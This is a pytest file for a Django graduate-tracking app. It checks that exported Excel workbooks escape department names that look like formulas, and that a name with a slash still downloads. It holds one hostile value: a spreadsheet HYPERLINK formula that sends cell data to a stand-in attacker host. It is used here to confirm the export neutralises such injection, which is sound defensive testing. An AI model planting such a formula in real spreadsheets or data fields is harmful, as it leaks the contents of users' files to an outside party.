"""The provincial table's caption and headers go through the one neutralising writer (core.xlsx)."""

import io

import pytest
from openpyxl import load_workbook

from gradtrack.records.models import Department

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A3,"机电系")'


def test_a_department_named_like_a_formula_lands_as_text_in_the_provincial_caption(
    small_school, centre_client
):
    Department.objects.filter(code="JD").update(name=HOSTILE)

    response = centre_client.get("/stats/provincial/", {"scope": "dept:JD", "first": 2026, "last": 2026})

    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    for sheet in workbook.worksheets:
        caption = sheet["A1"]
        assert caption.data_type != "f"
        assert not str(caption.value).startswith("=")
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert workbook["按专业大类"]["A1"].value.startswith("'=HYPERLINK(")


def test_a_chart_export_of_a_department_with_a_slash_in_its_name_still_downloads(small_school, centre_client):
    Department.objects.filter(code="JD").update(name="机电/数控[系]")

    response = centre_client.get(
        "/stats/export/rates_by_cohort/", {"scope": "dept:JD", "first": 2026, "last": 2026}
    )

    assert response.status_code == 200
    load_workbook(io.BytesIO(response.content))
